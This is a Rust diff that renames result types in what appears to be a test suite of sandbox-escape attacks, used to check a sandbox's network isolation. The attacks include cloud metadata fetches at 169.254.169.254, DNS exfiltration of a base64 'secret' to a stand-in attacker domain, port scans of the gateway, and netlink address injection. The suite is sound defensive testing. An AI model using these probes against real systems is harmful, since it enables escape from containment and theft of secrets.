@@ -16,9 +16,9 @@ use std::time::Duration;
 use rustix::net::{AddressFamily, RecvFlags, SendFlags, SocketType, ipproto};
 
 use super::listen::own_addresses;
-use super::{Attack, Targets, Verdict, attack};
+use super::{Attack, AttackVerdict, Targets, attack};
 use crate::names;
-use crate::probe::fetch::{self, Answer, Way, exchange, fetch};
+use crate::probe::fetch::{self, FetchAnswer, Way, exchange, fetch};
 
 pub(super) const ATTACKS: &[Attack] = &[
     attack("C0", "allowed-request", "an allowed host, through the proxy and past it", allowed),
@@ -73,24 +73,24 @@ pub(super) const ATTACKS: &[Attack] = &[
 ];
 
 /// No attack: what shows that the others failed for the right reason.
-fn allowed(targets: &Targets) -> Verdict {
+fn allowed(targets: &Targets) -> AttackVerdict {
     let Some(url) = &targets.allowed else {
-        return Verdict::Untried("no allowed host was named".to_owned());
+        return AttackVerdict::Untried("no allowed host was named".to_owned());
     };
     for way in [Way::Proxy, Way::Direct] {
         match fetch(&format!("{url}/{}", targets.token), way) {
             Ok(answer) if answer.status == 200 && answer.body.contains(&targets.token) => {}
-            Ok(answer) => return Verdict::broken(format_args!("{way:?}: {}", code(&answer))),
-            Err(err) => return Verdict::broken(format_args!("{way:?}: {err}")),
+            Ok(answer) => return AttackVerdict::broken(format_args!("{way:?}: {}", code(&answer))),
+            Err(err) => return AttackVerdict::broken(format_args!("{way:?}: {err}")),
         }
     }
-    Verdict::held("it answered both ways")
+    AttackVerdict::held("it answered both ways")
 }
 
 /// Knocks at every door at once; broken if one of them says the token.
-fn knock(doors: &[SocketAddr], targets: &Targets) -> Verdict {
+fn knock(doors: &[SocketAddr], targets: &Targets) -> AttackVerdict {
     if doors.is_empty() {
-        return Verdict::Untried("no such target was named".to_owned());
+        return AttackVerdict::Untried("no such target was named".to_owned());
     }
     let open = Mutex::new(Vec::new());
     thread::scope(|scope| {
@@ -112,8 +112,8 @@ fn knock(doors: &[SocketAddr], targets: &Targets) -> Verdict {
     });
     let open = open.into_inner().unwrap_or_else(std::sync::PoisonError::into_inner);
     match open.is_empty() {
-        true => Verdict::held(format_args!("none of {} answered", doors.len())),
-        false => Verdict::broken(format_args!("reached: {open:?}")),
+        true => AttackVerdict::held(format_args!("none of {} answered", doors.len())),
+        false => AttackVerdict::broken(format_args!("reached: {open:?}")),
     }
 }
 
@@ -144,7 +144,7 @@ fn neighbours() -> Vec<IpAddr> {
     near
 }
 
-fn by_name(targets: &Targets) -> Verdict {
+fn by_name(targets: &Targets) -> AttackVerdict {
     let names = ["host.docker.internal", "host.containers.internal", "gateway.docker.internal"];
     let mut doors = Vec::new();
     for address in names.iter().filter_map(|name| names::address_of(name).ok()) {
@@ -154,34 +154,34 @@ fn by_name(targets: &Targets) -> Verdict {
     doors.sort_unstable();
     doors.dedup();
     match doors.is_empty() {
-        true => Verdict::held("these names lead nowhere"),
+        true => AttackVerdict::held("these names lead nowhere"),
         false => knock(&doors, targets),
     }
 }
 
-fn through_proxy(doors: &[SocketAddr], targets: &Targets) -> Verdict {
+fn through_proxy(doors: &[SocketAddr], targets: &Targets) -> AttackVerdict {
     let mut said = Vec::new();
     for door in doors {
         match fetch(&format!("http://{door}/"), Way::Proxy) {
             Ok(answer) if answer.body.contains(&targets.token) => {
-                return Verdict::broken(format_args!("reached {door} with http://"));
+                return AttackVerdict::broken(format_args!("reached {door} with http://"));
             }
             Ok(answer) => said.push(code(&answer)),
             Err(err) => said.push(err.to_string()),
         }
         match tunnel(&door.to_string()) {
             Ok(answer) if answer.body.contains(&targets.token) => {
-                return Verdict::broken(format_args!("reached {door} with CONNECT"));
+                return AttackVerdict::broken(format_args!("reached {door} with CONNECT"));
             }
             Ok(answer) => said.push(code(&answer)),
             Err(err) => said.push(err.to_string()),
         }
     }
-    Verdict::held(distinct(&said))
+    AttackVerdict::held(distinct(&said))
 }
 
 /// A tunnel to `wanted`, and a plain request in it.
-fn tunnel(wanted: &str) -> io::Result<Answer> {
+fn tunnel(wanted: &str) -> io::Result<FetchAnswer> {
     let gateway = gateway()?;
     let mut stream = fetch::connect(SocketAddr::new(gateway, PROXY))?;
     let answer = fetch::open_tunnel(&mut stream, wanted)?;
@@ -191,10 +191,10 @@ fn tunnel(wanted: &str) -> io::Result<Answer> {
     exchange(&mut stream, wanted, "/")
 }
 
-fn through_socks(targets: &Targets) -> Verdict {
+fn through_socks(targets: &Targets) -> AttackVerdict {
     let gateway = match gateway() {
         Ok(gateway) => gateway,
-        Err(err) => return Verdict::held(err),
+        Err(err) => return AttackVerdict::held(err),
     };
     let mut said = Vec::new();
     for door in targets.host.iter().chain(&targets.loopback) {
@@ -217,19 +217,19 @@ fn through_socks(targets: &Targets) -> Verdict {
         };
         match talk() {
             Ok(text) if text.contains(&targets.token) => {
-                return Verdict::broken(format_args!("reached {door}"));
+                return AttackVerdict::broken(format_args!("reached {door}"));
             }
             Ok(text) => said.push(text.chars().take(40).collect()),
             Err(err) => said.push(err.to_string()),
         }
     }
-    Verdict::held(distinct(&said))
+    AttackVerdict::held(distinct(&said))
 }
 
-fn gateway_ports(_: &Targets) -> Verdict {
+fn gateway_ports(_: &Targets) -> AttackVerdict {
     let gateway = match gateway() {
         Ok(gateway) => gateway,
-        Err(err) => return Verdict::held(err),
+        Err(err) => return AttackVerdict::held(err),
     };
     let open = Mutex::new(BTreeSet::new());
     thread::scope(|scope| {
@@ -249,14 +249,14 @@ fn gateway_ports(_: &Targets) -> Verdict {
     let beyond: Vec<_> =
         open.iter().filter(|port| ![53, 80, 443, PROXY, SOCKS].contains(port)).collect();
     match beyond.is_empty() {
-        true => Verdict::held(format_args!("open: {open:?}, which are its own")),
-        false => Verdict::broken(format_args!("open beside its own: {beyond:?}")),
+        true => AttackVerdict::held(format_args!("open: {open:?}, which are its own")),
+        false => AttackVerdict::broken(format_args!("open beside its own: {beyond:?}")),
     }
 }
 
-fn control(_: &Targets) -> Verdict {
+fn control(_: &Targets) -> AttackVerdict {
     if fs::symlink_metadata("/control").is_ok() {
-        return Verdict::broken("/control is there");
+        return AttackVerdict::broken("/control is there");
     }
     refused(
         &[
@@ -270,7 +270,7 @@ fn control(_: &Targets) -> Verdict {
 }
 
 /// Of every cloud; by address and by name.
-fn metadata(way: Way) -> Verdict {
+fn metadata(way: Way) -> AttackVerdict {
     refused(
         &[
             "http://169.254.169.254/latest/meta-data/",
@@ -286,26 +286,29 @@ fn metadata(way: Way) -> Verdict {
 }
 
 /// Nobody but the gateway answers, and what it says is no.
-fn refused(urls: &[&str], way: Way) -> Verdict {
+fn refused(urls: &[&str], way: Way) -> AttackVerdict {
     let mut said = Vec::new();
     for url in urls {
         match fetch(url, way) {
             Ok(answer) if answer.is_refusal() => said.push(code(&answer)),
-            Ok(Answer { status, .. }) => {
-                return Verdict::broken(format_args!("{url} answered {status}"));
+            Ok(FetchAnswer { status, .. }) => {
+                return AttackVerdict::broken(format_args!("{url} answered {status}"));
             }
             Err(err) => said.push(err.to_string()),
         }
     }
-    Verdict::held(distinct(&said))
+    AttackVerdict::held(distinct(&said))
 }
 
-fn ipv6(_: &Targets) -> Verdict {
+fn ipv6(_: &Targets) -> AttackVerdict {
     let table = fs::read_to_string("/proc/net/if_inet6").unwrap_or_default();
     let beyond: Vec<_> =
         table.lines().filter(|line| line.split_whitespace().last() != Some("lo")).collect();
     if !beyond.is_empty() {
-        return Verdict::broken(format_args!("this sandbox has addresses: {}", beyond.join("; ")));
+        return AttackVerdict::broken(format_args!(
+            "this sandbox has addresses: {}",
+            beyond.join("; ")
+        ));
     }
     let mut said = Vec::new();
     for far in ["[2001:db8::1]:443", "[2001:db8::1]:80", "[fe80::1]:80", "[ff02::1]:80"] {
@@ -314,17 +317,17 @@ fn ipv6(_: &Targets) -> Verdict {
             Ok(mut stream) => {
                 let answered = exchange(&mut stream, "evil.sluice-attack.example", "/");
                 if answered.as_ref().is_ok_and(|answer| !answer.is_refusal()) {
-                    return Verdict::broken(format_args!("{far} answered"));
+                    return AttackVerdict::broken(format_args!("{far} answered"));
                 }
                 said.push("captured, and refused".to_owned());
             }
             Err(err) => said.push(err.to_string()),
         }
     }
-    Verdict::held(distinct(&said))
+    AttackVerdict::held(distinct(&said))
 }
 
-fn udp(targets: &Targets) -> Verdict {
+fn udp(targets: &Targets) -> AttackVerdict {
     let mut doors = targets.host_udp.clone();
     let ports: BTreeSet<u16> = doors.iter().map(SocketAddr::port).collect();
     for near in neighbours() {
@@ -334,7 +337,7 @@ fn udp(targets: &Targets) -> Verdict {
     let mut answered = Vec::new();
     let mut sent = 0;
     let Ok(socket) = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)) else {
-        return Verdict::held("no UDP at all");
+        return AttackVerdict::held("no UDP at all");
     };
     drop(socket.set_read_timeout(Some(Duration::from_secs(2))));
     for door in &doors {
@@ -348,17 +351,17 @@ fn udp(targets: &Targets) -> Verdict {
         answered.push(from);
     }
     match answered.is_empty() {
-        true => Verdict::held(format_args!("{sent} of {} sent, no answer", doors.len())),
-        false => Verdict::broken(format_args!("answered: {answered:?}")),
+        true => AttackVerdict::held(format_args!("{sent} of {} sent, no answer", doors.len())),
+        false => AttackVerdict::broken(format_args!("answered: {answered:?}")),
     }
 }
 
 /// With the kind of socket that takes no privilege.
-fn icmp(targets: &Targets) -> Verdict {
+fn icmp(targets: &Targets) -> AttackVerdict {
     let opened = rustix::net::socket(AddressFamily::INET, SocketType::DGRAM, Some(ipproto::ICMP));
     let socket = match opened {
         Ok(socket) => socket,
-        Err(err) => return Verdict::held(io::Error::from(err)),
+        Err(err) => return AttackVerdict::held(io::Error::from(err)),
     };
     let patience = Some(Duration::from_secs(2));
     let _set = rustix::net::sockopt::set_socket_timeout(
@@ -368,7 +371,7 @@ fn icmp(targets: &Targets) -> Verdict {
     );
     let hosts: BTreeSet<IpAddr> = targets.host.iter().map(SocketAddr::ip).collect();
     if hosts.is_empty() {
-        return Verdict::Untried("no address of the host was named".to_owned());
+        return AttackVerdict::Untried("no address of the host was named".to_owned());
     }
     let mut said = Vec::new();
     for host in &hosts {
@@ -383,10 +386,10 @@ fn icmp(targets: &Targets) -> Verdict {
     match rustix::net::recv(&socket, &mut buffer[..], RecvFlags::empty()) {
         // Type 0 is an echo's reply; anything else says that there is no way.
         Ok((length, _)) if length > 0 && buffer.first() == Some(&0) && !is_local(&hosts) => {
-            Verdict::broken("the host answered")
+            AttackVerdict::broken("the host answered")
         }
-        Ok(_) => Verdict::held("answered by this sandbox itself"),
-        Err(_) => Verdict::held(format_args!("{}, no answer", distinct(&said))),
+        Ok(_) => AttackVerdict::held("answered by this sandbox itself"),
+        Err(_) => AttackVerdict::held(format_args!("{}, no answer", distinct(&said))),
     }
 }
 
@@ -395,10 +398,10 @@ fn is_local(hosts: &BTreeSet<IpAddr>) -> bool {
     hosts.iter().all(|host| UdpSocket::bind((*host, 0)).is_ok())
 }
 
-fn leak(_: &Targets) -> Verdict {
+fn leak(_: &Targets) -> AttackVerdict {
     let gateway = match gateway() {
         Ok(gateway) => gateway,
-        Err(err) => return Verdict::held(err),
+        Err(err) => return AttackVerdict::held(err),
     };
     let mut servers = names::servers();
     servers.extend([IpAddr::from([127, 0, 0, 11]), gateway]);
@@ -408,18 +411,18 @@ fn leak(_: &Targets) -> Verdict {
         match names::ask(SocketAddr::new(server, 53), "c2VjcmV0.sluice-attack.example") {
             Ok(addresses) => {
                 if let Some(other) = addresses.iter().find(|address| gateway != **address) {
-                    return Verdict::broken(format_args!("{server} knows it as {other}"));
+                    return AttackVerdict::broken(format_args!("{server} knows it as {other}"));
                 }
                 said.push("answered with the gateway itself".to_owned());
             }
             Err(err) => said.push(err.to_string()),
         }
     }
-    Verdict::held(distinct(&said))
+    AttackVerdict::held(distinct(&said))
 }
 
 /// No answer may come but the gateway's own, which leads to itself.
-fn names_elsewhere(targets: &Targets) -> Verdict {
+fn names_elsewhere(targets: &Targets) -> AttackVerdict {
     let gateway = gateway().ok();
     let mut servers = targets.host_udp.clone();
     let hosts: BTreeSet<IpAddr> = targets.host_udp.iter().map(SocketAddr::ip).collect();
@@ -450,38 +453,40 @@ fn names_elsewhere(targets: &Targets) -> Verdict {
     });
     let wrong = wrong.into_inner().unwrap_or_else(std::sync::PoisonError::into_inner);
     if !wrong.is_empty() {
-        return Verdict::broken(wrong.join("; "));
+        return AttackVerdict::broken(wrong.join("; "));
     }
-    Verdict::held(distinct(&said.into_inner().unwrap_or_else(std::sync::PoisonError::into_inner)))
+    AttackVerdict::held(distinct(
+        &said.into_inner().unwrap_or_else(std::sync::PoisonError::into_inner),
+    ))
 }
 
-fn names_over_tls(_: &Targets) -> Verdict {
+fn names_over_tls(_: &Targets) -> AttackVerdict {
     let mut said = Vec::new();
     let outside = SocketAddr::from(([203, 0, 113, 53], 853));
     let mut doors = vec![outside];
     doors.extend(gateway().ok().map(|gateway| SocketAddr::new(gateway, 853)));
     for door in doors {
         match fetch::knock(door, Duration::from_secs(2)) {
-            Ok(_) => return Verdict::broken(format_args!("{door} is open")),
+            Ok(_) => return AttackVerdict::broken(format_args!("{door} is open")),
             Err(err) => said.push(err.to_string()),
         }
     }
     let query = "https://dns.sluice-attack.example/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB";
     match refused(&[query], Way::Proxy) {
-        Verdict::Held(why) => Verdict::held(format_args!("{}; {why}", distinct(&said))),
+        AttackVerdict::Held(why) => AttackVerdict::held(format_args!("{}; {why}", distinct(&said))),
         broken => broken,
     }
 }
 
 /// Captured and refused where it can be, and unreachable elsewhere.
-fn raw_address(_: &Targets) -> Verdict {
+fn raw_address(_: &Targets) -> AttackVerdict {
     let mut said = Vec::new();
     for url in ["http://203.0.113.7/", "http://203.0.113.7:8080/", "http://198.51.100.7/"] {
         for way in [Way::Direct, Way::Proxy] {
             match fetch(url, way) {
                 Ok(answer) if answer.is_refusal() => said.push(code(&answer)),
-                Ok(Answer { status, .. }) => {
-                    return Verdict::broken(format_args!("{url} answered {status}"));
+                Ok(FetchAnswer { status, .. }) => {
+                    return AttackVerdict::broken(format_args!("{url} answered {status}"));
                 }
                 Err(err) => said.push(err.to_string()),
             }
@@ -492,15 +497,15 @@ fn raw_address(_: &Targets) -> Verdict {
         Ok(_) => said.push("443 is captured".to_owned()),
         Err(err) => said.push(err.to_string()),
     }
-    Verdict::held(distinct(&said))
+    AttackVerdict::held(distinct(&said))
 }
 
 /// Through the routing socket: a new address, which takes a capability.
-fn routes(_: &Targets) -> Verdict {
+fn routes(_: &Targets) -> AttackVerdict {
     // No protocol named is the routing table's.
     let socket = match rustix::net::socket(AddressFamily::NETLINK, SocketType::RAW, None) {
         Ok(socket) => socket,
-        Err(err) => return Verdict::held(io::Error::from(err)),
+        Err(err) => return AttackVerdict::held(io::Error::from(err)),
     };
     // RTM_NEWADDR, with an acknowledgement: 203.0.113.99/32 on interface 1.
     let mut message = Vec::new();
@@ -515,7 +520,7 @@ fn routes(_: &Targets) -> Verdict {
     message.extend([203, 0, 113, 99]);
     let sent = rustix::net::send(&socket, &message, SendFlags::empty());
     if let Err(err) = sent {
-        return Verdict::held(io::Error::from(err));
+        return AttackVerdict::held(io::Error::from(err));
     }
     let mut answer = [0_u8; 256];
     let patience = Some(Duration::from_secs(2));
@@ -528,12 +533,12 @@ fn routes(_: &Targets) -> Verdict {
         Ok(_) => {
             let code = answer.get(16..20).and_then(|code| code.try_into().ok());
             match code.map(i32::from_ne_bytes) {
-                Some(0) => Verdict::broken("an address was added"),
-                Some(code) => Verdict::held(io::Error::from_raw_os_error(-code)),
-                None => Verdict::held("the kernel said nothing"),
+                Some(0) => AttackVerdict::broken("an address was added"),
+                Some(code) => AttackVerdict::held(io::Error::from_raw_os_error(-code)),
+                None => AttackVerdict::held("the kernel said nothing"),
             }
         }
-        Err(err) => Verdict::held(io::Error::from(err)),
+        Err(err) => AttackVerdict::held(io::Error::from(err)),
     }
 }
 
@@ -545,7 +550,7 @@ fn gateway() -> io::Result<IpAddr> {
 const PROXY: u16 = 3128;
 const SOCKS: u16 = 1080;
 
-fn code(answer: &Answer) -> String {
+fn code(answer: &FetchAnswer) -> String {
     let code = answer.code().unwrap_or_else(|| "no code".to_owned());
     format!("{} {code}", answer.status)
 }
